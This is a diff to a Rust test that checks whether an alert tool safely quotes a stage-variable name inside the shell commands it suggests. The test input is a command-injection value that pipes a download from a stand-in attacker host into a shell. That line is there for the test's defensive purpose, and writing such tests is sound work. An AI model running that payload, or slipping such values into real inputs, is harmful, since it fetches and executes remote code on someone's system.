@@ -162,17 +162,15 @@ fn shell_metacharacters_in_a_command_to_copy() {
 fn stage_variable_that_is_a_command() {
     let name = "link;curl https://evil.example/x|sh #";
     let text = fs::read_to_string("events/stage-variable-dangling.account.json").unwrap();
-    let mut account: Value = serde_json::from_str(&text).unwrap();
-    for answer in account["answers"].as_array_mut().unwrap() {
-        let id = answer.get_mut("answer").and_then(|answer| answer.get_mut("connection_id"));
-        if let Some(id) = id.filter(|id| id.is_string()) {
-            *id = format!("${{stageVariables.{name}}}").into();
-        }
-    }
-    let account = RecordedAccount::parse(&account.to_string()).unwrap();
+    let account = RecordedAccount::parse(
+        &text.replace("${stageVariables.vpcLinkId}", &format!("${{stageVariables.{name}}}")),
+    )
+    .unwrap();
     let alerts = explained(fs::read("events/stage-variable-dangling.json").unwrap(), &account).alerts;
     assert_eq!(alerts.len(), 1);
-    for command in commands(&alerts[0]) {
+    let commands = commands(&alerts[0]);
+    assert!(commands.iter().any(|command| command.contains("curl")), "{commands:#?}");
+    for command in commands {
         let words = shlex::split(&command).unwrap();
         assert!(
             !words.iter().any(|word| word.starts_with("evil") || word == "sh" || word == "#"),
@@ -182,11 +180,8 @@ fn stage_variable_that_is_a_command() {
         let bare: String = command.split('\'').step_by(2).collect();
         assert!(!bare.contains([';', '|', '#', '$']), "{command}");
         if command.contains("curl") {
-            assert!(words.iter().any(|word| word.contains(name)), "{command}");
+            assert!(words.contains(&format!("op=replace,path=/variables/{name},value=VALUE")), "{command}");
         }
-    }
-    for body in alerts::message(&alerts[0]).bodies.values() {
-        assert!(!body.contains("\"curl") && !body.contains("://evil.example/x|sh #,"), "{body}");
     }
 }
 
